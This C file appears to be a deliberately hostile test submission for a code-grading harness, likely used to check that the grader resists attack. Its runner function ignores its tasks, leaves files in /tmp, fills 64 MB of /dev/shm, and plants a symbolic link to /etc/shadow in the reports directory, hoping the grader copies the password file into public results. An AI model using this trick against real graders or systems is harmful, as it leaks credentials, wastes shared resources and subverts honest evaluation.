/* Hostile: leaves files in /tmp and 64 MB in /dev/shm, and a symbolic
 * link to a root-only file where the sanitizer reports go, hoping the
 * grader copies it into the world-readable results. */
#include "runner.h"

#include <fcntl.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void fill(const char *path, size_t bytes)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0666);
    if (fd < 0)
        return;
    char buf[65536];
    memset(buf, 'x', sizeof buf);
    for (size_t done = 0; done < bytes; done += sizeof buf)
        if (write(fd, buf, sizeof buf) < 0)
            break;
    close(fd);
}

int runner_run(const struct runner_task *tasks, size_t n,
               struct runner_record *records)
{
    (void)tasks;
    (void)n;
    (void)records;
    fill("/tmp/wb-hostile-leftover", 4096);
    fill("/dev/shm/wb-hostile-leftover", 64u << 20);
    const char *dir = getenv("WB_REPORTS");
    if (dir != NULL) {
        char path[512];
        snprintf(path, sizeof path, "%s/test_zero_tasks.1", dir);
        if (symlink("/etc/shadow", path) != 0)
            return -1;
    }
    return 0;
}

int64_t runner_span_ns(const struct runner_record *records, size_t n)
{
    return n == 0 ? 0 : records[n - 1].end_ns - records[0].start_ns;
}
